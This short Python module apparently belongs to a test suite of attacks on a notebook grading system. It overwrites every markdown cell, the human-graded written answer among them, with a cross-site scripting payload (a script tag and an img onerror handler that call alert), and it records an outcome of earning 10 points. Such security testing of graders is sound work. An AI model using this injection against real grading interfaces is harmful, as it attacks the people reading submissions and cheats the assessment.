"""Puts a script into the written answer that a human reads and grades."""

from pathlib import Path

from nbformat import NotebookNode

from attacks import kit

OUTCOME = kit.Earns(10)


def hand_in(released: NotebookNode, tag: str, folder: Path) -> None:
    """Change all markdown cells, the written answer among them."""
    notebook = kit.answered(released, tag)
    for cell in notebook.cells:
        if cell.cell_type == "markdown":
            cell.source = "My answer<script>alert(1)</script><img src=x onerror=alert(1)>"
    kit.write(folder, notebook)
